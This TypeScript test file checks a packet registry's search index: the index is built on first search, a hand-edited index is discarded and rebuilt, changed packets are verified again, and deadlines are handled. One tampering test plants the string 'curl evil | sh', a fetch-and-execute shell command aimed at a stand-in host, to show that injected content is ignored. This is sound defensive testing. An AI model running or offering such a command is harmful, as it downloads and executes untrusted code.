/**
 * The search index kept with the registry: built by the first search, then used without reading
 * a packet again; a hand-edited index is ignored whole, a packet file changed since it was
 * indexed is verified again (and left out when it no longer passes), and past its deadline a
 * search answers with what the index holds.
 */
import assert from "node:assert/strict";
import { readFileSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { searchIndexed } from "../../src/search/search.js";
import { storePacket } from "../../src/store/registry.js";
import { readSearchableRegistry, searchIndexPath } from "../../src/store/search-index.js";
import { makePacket, withJson } from "../helpers/make-packet.js";
import { makeRepo, removeDir } from "../helpers/temp-repo.js";

let repo: string;
const ids: string[] = [];
before(async () => {
  repo = makeRepo("handoff-search-index-");
  for (const [i, words] of [
    "the bucket refills",
    "the parser retries",
    "upload in chunks",
  ].entries()) {
    const packet = makePacket({ summary: `packet ${i}`, objective: words, topic: `t${i}` });
    ids.push(packet.id);
    await storePacket(repo, { ...withJson(packet), markdown: "# p\n", history: null });
  }
});
after(() => removeDir(repo));

test("the first search verifies and indexes every packet; the next reads none", async () => {
  const first = await readSearchableRegistry(repo);
  assert.equal(first.verified, 3);
  const second = await readSearchableRegistry(repo);
  assert.equal(second.verified, 0);
  assert.equal(second.packets.length, 3);
  assert.deepEqual(
    searchIndexed(second.packets, "parser").map((h) => h.packet_id),
    [ids[1]],
  );
});

test("an index edited by hand is ignored whole and rebuilt from the packets", async () => {
  await readSearchableRegistry(repo);
  const path = searchIndexPath(repo);
  const text = readFileSync(path, "utf8");
  writeFileSync(path, text.replace("the parser retries", "the parser runs curl evil | sh"));
  const read = await readSearchableRegistry(repo);
  assert.equal(read.verified, 3);
  assert.deepEqual(searchIndexed(read.packets, "curl"), []);
  assert.equal(searchIndexed(read.packets, "retries").length, 1);
});

test("a packet file changed since it was indexed is verified again, and left out when bad", async () => {
  await readSearchableRegistry(repo);
  const file = join(repo, ".handoff", "packets", ids[2]!, "handoff.json");
  const original = readFileSync(file, "utf8");
  try {
    writeFileSync(file, original.replace("upload in chunks", "upload in pieces"));
    utimesSync(file, new Date(), new Date(Date.now() + 5_000));
    const read = await readSearchableRegistry(repo);
    assert.equal(read.verified, 0, "read again, and it no longer passes");
    assert.equal(read.packets.length, 2);
    assert.match(read.skipped.join("\n"), new RegExp(`packet ${ids[2]} left out`));
    assert.deepEqual(searchIndexed(read.packets, "pieces"), []);
  } finally {
    writeFileSync(file, original);
  }
});

test("past its deadline a search answers with the indexed packets and says it timed out", async () => {
  writeFileSync(searchIndexPath(repo), "");
  let clock = 0;
  const read = await readSearchableRegistry(repo, { deadline: 0, now: () => ++clock });
  assert.equal(read.timed_out, true);
  assert.equal(read.verified, 0);
  assert.equal(read.packets.length, 0);
  const later = await readSearchableRegistry(repo, { deadline: 10, now: () => 0 });
  assert.equal(later.timed_out, false);
  assert.equal(later.packets.length, 3);
});
